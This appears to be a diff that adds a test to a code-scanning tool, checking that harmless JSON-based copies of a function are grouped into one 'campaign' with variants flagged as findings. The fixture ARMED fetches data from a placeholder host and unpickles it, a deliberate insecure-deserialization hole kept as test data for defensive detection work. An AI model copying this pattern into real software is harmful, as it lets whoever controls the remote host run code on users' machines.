@@ -75,3 +75,24 @@ def test_units_of_a_file_whose_analysis_ran_out_of_time():
     analysis = Analyzer(load_rules(), Config(file_timeout=0.0), units=True).analyze(doc)
     assert analysis.skips, "the deadline was hit"
     assert any(u.kind == "function" and u.name == "sync_cache" for u in analysis.units)
+
+
+ARMED = '''def load_remote_state(key):
+    """Fetch the shared state for key."""
+    import pickle
+    import urllib.request
+    url = "http://state.example/v1/" + key
+    raw = urllib.request.urlopen(url).read()
+    return pickle.loads(raw)
+'''
+
+
+def test_clean_looking_first_copies_join_the_campaign_of_the_armed_ones():
+    unarmed = ARMED.replace("import pickle", "import json").replace("pickle.loads", "json.loads")
+    bodies = [unarmed, unarmed.replace("key", "name"), ARMED, ARMED.replace("raw", "blob"), ARMED.replace("url", "u")]
+    docs = [_doc(f"r{k}", b, str(k)) for k, b in enumerate(bodies)]
+    found = campaigns_from_documents(docs, findings=True)
+    top = next(c for c in found if c.findings)
+    assert top.repos == ["r0", "r1", "r2", "r3", "r4"]
+    assert {f.repo for f in top.findings} == {"r2", "r3", "r4"}
+    assert not any(c.repos == ["r0", "r1"] for c in found), "the unarmed pair is not a campaign of its own"
